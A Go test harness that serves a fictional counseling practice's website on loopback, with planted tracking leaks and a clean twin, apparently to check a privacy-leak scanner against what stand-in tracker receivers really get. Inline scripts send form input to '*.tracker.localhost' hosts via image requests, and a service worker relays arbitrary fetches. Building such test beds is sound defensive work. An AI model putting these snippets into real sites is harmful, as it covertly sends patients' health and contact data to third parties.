// Package plant is a made-up practice's web site with leaks that we planted, and
// its twin without them: so that the scan can be drilled, and its findings
// compared with what the receivers really got.
//
// It serves names under localhost, on loopback only. Nobody is in it.
package plant

import (
	"bufio"
	"crypto/sha1"
	_ "embed"
	"encoding/base64"
	"encoding/binary"
	"errors"
	"fmt"
	"html/template"
	"io"
	"net"
	"net/http"
	"net/http/httputil"
	"net/url"
	"slices"
	"strings"
	"sync"
	"time"
)

//go:embed ways.js
var ways []byte

// Way is one leak that was planted.
type Way struct {
	Name string
	What string // what leaves: a word that the finding must tell
	To   string // the receiver's name before .tracker.localhost; Name if empty
	Own  bool   // the site's own server takes it
	Mute bool   // no request of it may arrive: it is handed over otherwise, or the scan holds it back
}

// page is one page of the leaking site.
type page struct {
	path, title string
	ways        []Way
}

func mail(names ...string) (all []Way) {
	for _, n := range names {
		all = append(all, Way{Name: n, What: "e-mail"})
	}
	return all
}

// pages hold the planted leaks. A page does not hold all: each way shall be found
// by itself, and a browser opens few connections at a time.
var pages = []page{
	{"/contact", "Contact us", mail("plain", "url-encoded", "twice-encoded", "upper", "lower", "base64", "base64-one", "base64-two", "base64-url", "base64-twice", "hex", "codes", "reversed", "rot13")},
	{"/intake", "New patient intake", append(mail("md5", "md5-lower", "sha1", "sha256", "sha256-base64", "sha512", "md5-sha256", "sha256-md5", "sha256-twice", "pixel", "ga4"),
		Way{Name: "phone-digits", What: "telephone"}, Way{Name: "name-parts", What: "name"}, Way{Name: "birth", What: "birth"})},
	{"/appointment", "Book an appointment", append(mail("json", "json-escaped", "form-body", "multipart", "xhr", "header", "beacon", "beacon-base64", "keepalive"),
		Way{Name: "choice", What: "clinician"}, Way{Name: "radio", What: "kind"}, Way{Name: "appointment", What: "appointment"}, Way{Name: "words", What: "reason"}, Way{Name: "relay", What: "e-mail", Own: true})},
	{"/questions", "Ask a question", mail("gzip", "deflate", "deflate-raw", "gzip-base64", "utf16", "path", "host-name", "iframe", "frame-form", "script", "import", "stylesheet", "prefetch", "background", "font")},
	{"/newsletter", "Newsletter", mail("video", "object", "embed", "svg", "srcset", "event-source", "socket", "socket-binary", "socket-address", "worker", "shared-worker", "service-worker")},
	{"/callback", "We call you back", mail("ping", "title", "split", "pieces", "split-back", "later", "redirect", "window", "sync", "dom", "referer")},
	{"/self-test", "Depression self-test", append(mail("keys", "key-codes", "key-batch", "growing", "key-socket", "pagehide", "hidden", "before-unload", "message", "next-page"),
		Way{Name: "shadow", What: "shade"}, Way{Name: "step-two", What: "second"}, Way{Name: "editable", What: "free"}, Way{Name: "inner-frame", What: "inner"}, Way{Name: "their-frame", What: "theirs"})},
	{"/first-visit", "Your first visit", append(append(mail("method", "protocol", "accept", "csp-report", "fetch-later", "after-five", "interval", "with-click", "truncated", "json-deep", "form-get", "xor"),
		Way{Name: "card", What: "Choice"}, Way{Name: "option", What: "Insurance"}, Way{Name: "short-choice", What: "clinician"}, Way{Name: "word", What: "depression"}),
		Way{Name: "submit", What: "e-mail", Mute: true}, Way{Name: "submit-post", What: "e-mail", Mute: true}, Way{Name: "submit-socket", What: "e-mail", Mute: true}, Way{Name: "send-button", What: "telephone", Mute: true},
		Way{Name: "handed", What: "e-mail"}, Way{Name: "hint", What: "e-mail", Mute: true}, Way{Name: "call", What: "e-mail", Mute: true})},
	{"/waiting-list", "Waiting list", []Way{{Name: "dialog", What: "late"}}},
	{"/conditions/depression", "Depression and anxiety treatment", []Way{{Name: "address", What: "address"}, {Name: "carried", What: "e-mail"}, {Name: "click-id", What: "click"}}},
}

// Planted are all leaks of the site that somebody receives. One of them is told
// on the page after the one on which it was typed, and so counts as "carried".
func Planted() (all []Way) {
	for _, p := range pages {
		for _, w := range p.ways {
			if w.Name != "next-page" {
				all = append(all, w)
			}
		}
	}
	return all
}

// Sample is one page of both sites, with the leaks that are planted there.
func Sample() (path string, ways []Way) {
	return strings.TrimPrefix(pages[2].path, "/"), pages[2].ways
}

// Got is one request that a receiver got.
type Got struct {
	Host string
	Text string
}

// Site is the served site. Close ends it.
type Site struct {
	URL     string // of the leaking site
	Clean   string // of its twin
	Tracker string // port of the receivers
	Own     []string
	servers []*http.Server
	mu      sync.Mutex
	got     []Got
}

// Serve serves the site and its twin on loopback.
func Serve() (*Site, error) {
	s := &Site{}
	ports := make([]string, 3)
	lis := make([]net.Listener, 3)
	for i := range lis {
		l, err := net.Listen("tcp", "127.0.0.1:0")
		if err != nil {
			return nil, errors.Join(err, s.Close())
		}
		_, ports[i], _ = net.SplitHostPort(l.Addr().String())
		lis[i] = l
	}
	s.Tracker = ports[1]
	s.URL, s.Clean = "http://practice.localhost:"+ports[0]+"/", "http://twin.localhost:"+ports[2]+"/"
	for i, h := range []http.Handler{http.HandlerFunc(s.leaking), http.HandlerFunc(s.receive), http.HandlerFunc(s.clean)} {
		srv := &http.Server{Handler: h, ReadHeaderTimeout: 10 * time.Second}
		s.servers = append(s.servers, srv)
		go srv.Serve(lis[i]) //nolint:errcheck // it ends by Close
	}
	return s, nil
}

// Close ends all servers.
func (s *Site) Close() error {
	var errs []error
	for _, srv := range s.servers {
		errs = append(errs, srv.Close())
	}
	return errors.Join(errs...)
}

// Got are the requests that receivers really got.
func (s *Site) Got() []Got {
	s.mu.Lock()
	defer s.mu.Unlock()
	return slices.Clone(s.got)
}

// Reached tells whether the receiver of a way got anything.
func (s *Site) Reached(w Way) bool {
	return slices.ContainsFunc(s.Got(), func(g Got) bool {
		host, _, _ := strings.Cut(g.Host, ":")
		return w.Own && strings.Contains(g.Text, "/collect") || strings.HasSuffix("."+host, "."+w.Name+".tracker.localhost")
	})
}

func (s *Site) note(r *http.Request, body []byte) {
	head, _ := httputil.DumpRequest(r, false)
	s.mu.Lock()
	defer s.mu.Unlock()
	s.got = append(s.got, Got{Host: r.Host, Text: string(head) + string(body)})
}

// receive plays everybody who is told something.
func (s *Site) receive(w http.ResponseWriter, r *http.Request) {
	body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	if r.Method != http.MethodOptions {
		s.note(r, body)
	}
	h := w.Header()
	h.Set("Access-Control-Allow-Origin", "*")
	h.Set("Access-Control-Allow-Headers", "*")
	h.Set("Access-Control-Allow-Methods", "*")
	switch {
	case r.Header.Get("Upgrade") == "websocket":
		s.socket(w, r)
	case r.URL.Path == "/silent":
		h.Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><script>onmessage=(e)=>{globalThis.kept=e.data}</script>`)
	case r.URL.Path == "/listen":
		h.Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><script>onmessage=(e)=>{new Image().src='/p?m='+encodeURIComponent(e.data)}</script>`)
	case r.URL.Path == "/widget":
		h.Set("Content-Type", "text/html")
		_, _ = io.WriteString(w, `<!doctype html><label>theirs <input name="theirs"></label><script>document.querySelector('input').addEventListener('change',(e)=>{new Image().src='/p?m='+encodeURIComponent(e.target.value)})</script>`)
	case strings.HasSuffix(r.URL.Path, ".js"):
		h.Set("Content-Type", "text/javascript")
	case strings.HasSuffix(r.URL.Path, ".css"):
		h.Set("Content-Type", "text/css")
	default:
		h.Set("Content-Type", "text/plain")
		_, _ = io.WriteString(w, "ok")
	}
}

// socket takes a WebSocket and reads one connection to its end (RFC 6455).
func (s *Site) socket(w http.ResponseWriter, r *http.Request) {
	conn, buf, err := http.NewResponseController(w).Hijack()
	if err != nil {
		return
	}
	defer conn.Close()
	sum := sha1.Sum([]byte(r.Header.Get("Sec-WebSocket-Key") + "258EAFA5-E914-47DA-95CA-C5AB0DC85B11"))
	fmt.Fprintf(conn, "HTTP/1.1 101 Switching Protocols\r\nUpgrade: websocket\r\nConnection: Upgrade\r\nSec-WebSocket-Accept: %s\r\n\r\n", base64.StdEncoding.EncodeToString(sum[:]))
	_ = conn.SetDeadline(time.Now().Add(time.Minute))
	for {
		data, err := readFrame(buf.Reader)
		if err != nil {
			return
		}
		s.note(r, data)
	}
}

func readFrame(r *bufio.Reader) ([]byte, error) {
	var head [2]byte
	if _, err := io.ReadFull(r, head[:]); err != nil {
		return nil, err
	}
	size := uint64(head[1] & 0x7f)
	if size == 126 {
		var n [2]byte
		if _, err := io.ReadFull(r, n[:]); err != nil {
			return nil, err
		}
		size = uint64(binary.BigEndian.Uint16(n[:]))
	}
	if size > 60_000 || head[1]&0x80 == 0 || head[0]&0x0f == 8 {
		return nil, errors.New("the socket ends")
	}
	b := make([]byte, 4+size)
	if _, err := io.ReadFull(r, b); err != nil {
		return nil, err
	}
	for i := range b[4:] {
		b[4+i] ^= b[i%4]
	}
	return b[4:], nil
}

// leaking serves the site with the leaks.
func (s *Site) leaking(w http.ResponseWriter, r *http.Request) {
	h := w.Header()
	switch r.URL.Path {
	case "/ways.js":
		h.Set("Content-Type", "text/javascript")
		_, _ = w.Write(ways)
		return
	case "/sw.js":
		h.Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, `onmessage=(e)=>e.waitUntil(fetch(e.data,{mode:'no-cors'}));oninstall=()=>skipWaiting();onactivate=(e)=>e.waitUntil(clients.claim());`)
		return
	case "/collect":
		body, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		s.note(r, body)
		return
	case "/go":
		to, err := url.Parse(r.URL.Query().Get("to"))
		if err == nil && strings.HasSuffix(to.Hostname(), ".tracker.localhost") {
			http.Redirect(w, r, to.Scheme+"://"+to.Host+to.Path+"?m="+url.QueryEscape(to.Query().Get("m")), http.StatusFound)
		}
		return
	}
	s.show(w, r, true)
}

// clean serves the twin: the same pages, with a script that tells nobody.
func (s *Site) clean(w http.ResponseWriter, r *http.Request) {
	if r.URL.Path == "/own.js" {
		w.Header().Set("Content-Type", "text/javascript")
		_, _ = io.WriteString(w, `document.querySelectorAll('input').forEach((i)=>i.addEventListener('change',(e)=>e.target.setAttribute('data-done','yes')));document.cookie='seen=1';localStorage.setItem('theme','calm');`)
		return
	}
	s.show(w, r, false)
}

type shown struct {
	Title, Port string
	Ways        string
	Leaks       bool
	Pages       []page
	Frames      bool
	Form        bool
	First       bool
	Dialog      bool
}

// Path and Title are for the template.
func (p page) Path() string  { return p.path }
func (p page) Title() string { return p.title }

func (s *Site) show(w http.ResponseWriter, r *http.Request, leaks bool) {
	v := shown{Title: "Harbor Counseling", Port: s.Tracker, Leaks: leaks, Pages: pages}
	switch r.URL.Path {
	case "/", "/privacy-practices", "/inner":
	case "/robots.txt", "/favicon.ico", "/sitemap.xml":
		http.NotFound(w, r)
		return
	default:
		i := slices.IndexFunc(pages, func(p page) bool { return p.path == r.URL.Path })
		if i < 0 {
			http.NotFound(w, r)
			return
		}
		v.Title, v.Form = pages[i].title, pages[i].path != "/conditions/depression" && pages[i].path != "/waiting-list"
		v.First, v.Dialog = pages[i].path == "/first-visit", pages[i].path == "/waiting-list"
		var names []string
		for _, way := range pages[i].ways {
			names = append(names, way.Name)
		}
		v.Ways = strings.Join(names, " ")
		v.Frames = slices.Contains(names, "inner-frame")
	}
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	if leaks && r.URL.Path == "/first-visit" {
		w.Header().Set("Content-Security-Policy", "object-src 'none'; report-uri http://csp-report.tracker.localhost:"+s.Tracker+"/c")
	}
	name := "page"
	if r.URL.Path == "/inner" {
		name = "inner"
	}
	_ = templates.ExecuteTemplate(w, name, v) // the other side is gone
}

var templates = template.Must(template.New("page").Parse(`<!doctype html><html lang="en"><head><meta charset="utf-8"><title>{{.Title}}</title></head><body>
<nav><a href="/">Home</a>{{range .Pages}} <a href="{{.Path}}">{{.Title}}</a>{{end}} <a href="/privacy-practices">Notice of Privacy Practices</a></nav>
<main><h1>{{.Title}}</h1><p>We are a small practice. Everybody in it is made up.</p>
{{if .Form}}<form method="post" action="/send">
<p><label>Your name <input name="name" autocomplete="name"></label></p>
<p><label>Your e-mail address <input name="email" type="email"></label></p>
<p><label>Telephone <input name="phone" type="tel"></label></p>
<p><label>Date of birth <input name="born" type="date"></label></p>
<p><label>Clinician <select name="clinician"><option value="">Please choose</option><option value="c1">Dr. Maya Lindqvist</option><option value="c2">Dr. Tomas Okafor</option></select></label></p>
<fieldset><legend>Kind of visit</legend><label><input type="radio" name="kind" value="in-person-first"> In person</label> <label><input type="radio" name="kind" value="video-follow-up"> By video</label></fieldset>
<p><label>Reason for the visit <textarea name="reason"></textarea></label></p>
<p><button type="button" class="slot">Tuesday 10:30 am</button> <button type="button" class="slot">Friday 2:15 pm</button></p>
{{if .First}}<ul><li><h3>Dr. Ines Marchetti</h3><button type="button" class="card">Choose</button></li><li><h3>Dr. Ola Bergstrand</h3><button type="button" class="card">Choose</button></li></ul>
<div role="listbox" aria-label="Insurance"><div role="option" tabindex="0">None at all</div><div role="option" tabindex="0">Meridian Gold Plan</div></div>
<button type="button" id="ask">Send my number</button>{{end}}
{{if .Frames}}<div id="shade"></div><div id="free" contenteditable="true" aria-label="free words"></div>
<button type="button" id="on">Next</button><p id="later" hidden><label>second step <input id="second" name="second"></label></p>
<iframe src="/inner?{{.Port}}" width="300" height="60"></iframe>
{{if .Leaks}}<iframe src="http://their-frame.tracker.localhost:{{.Port}}/widget" width="300" height="60"></iframe>{{end}}
<script>const root=document.querySelector('#shade').attachShadow({mode:'closed'});const i=document.createElement('input');i.name='shade';i.setAttribute('aria-label','shade');root.append(i);document.querySelector('#shade').inner=i;document.querySelector('#on').onclick=()=>{document.querySelector('#later').hidden=false};</script>{{end}}
<p><button>Send</button></p></form>{{end}}{{if .Dialog}}<button type="button" id="up">Request an appointment</button><dialog id="box"><label>late <input name="late"></label></dialog><script>document.querySelector('#up').onclick=()=>document.querySelector('#box').showModal();</script>{{end}}</main>
{{if .Leaks}}<script src="/ways.js" data-port="{{.Port}}" data-ways="{{.Ways}}"></script>{{else}}<script src="/own.js"></script>{{end}}
</body></html>
{{define "inner"}}<!doctype html><html lang="en"><title>Inside</title><label>inner <input name="inner"></label>{{if .Leaks}}<script>document.querySelector('input').addEventListener('change',(e)=>{new Image().src='http://inner-frame.tracker.localhost:{{.Port}}/p?m='+encodeURIComponent(e.target.value)})</script>{{end}}</html>{{end}}`))
